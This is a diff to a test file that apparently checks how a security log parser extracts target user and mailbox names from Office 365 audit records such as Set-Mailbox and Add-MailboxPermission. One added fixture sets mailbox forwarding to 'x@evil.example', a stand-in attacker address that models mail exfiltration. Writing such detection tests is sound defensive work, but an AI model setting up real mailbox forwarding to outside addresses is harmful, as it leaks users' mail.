@@ -15,9 +15,25 @@ expectKinds("whose mailbox an action was about, and who got access", [
     expected: { "o365.target_user_name": "vic@contoso.com" },
   },
   {
-    name: "access to a mailbox: who got it, not whose it is (1)",
+    name: "forwarding that was set in the portal, which names mailboxes by a path (1)",
+    record: cmdlet("Set-Mailbox", {
+      Identity: "ABC.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/Vic Example",
+      ForwardingSmtpAddress: "smtp:x@evil.example",
+    }),
+    expected: { "o365.target_user_name": undefined, "o365.target_name": "Vic Example" },
+  },
+  {
+    name: "a mailbox by id, and by a path beside (1)",
+    record: {
+      ...cmdlet("Set-Mailbox", { Identity: "288fc35b-236b-4b73-868a-11f9d367bb13" }),
+      ObjectId: "ABC.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/vic",
+    },
+    expected: { "o365.target_name": "vic" },
+  },
+  {
+    name: "access to a mailbox: who got it, and by name whose it is (1)",
     record: cmdlet("Add-MailboxPermission", { Identity: "vic@contoso.com", User: "bob@contoso.com" }),
-    expected: { "o365.target_user_name": "bob@contoso.com" },
+    expected: { "o365.target_user_name": "bob@contoso.com", "o365.target_name": "vic@contoso.com" },
   },
   {
     name: "the right to send (1)",
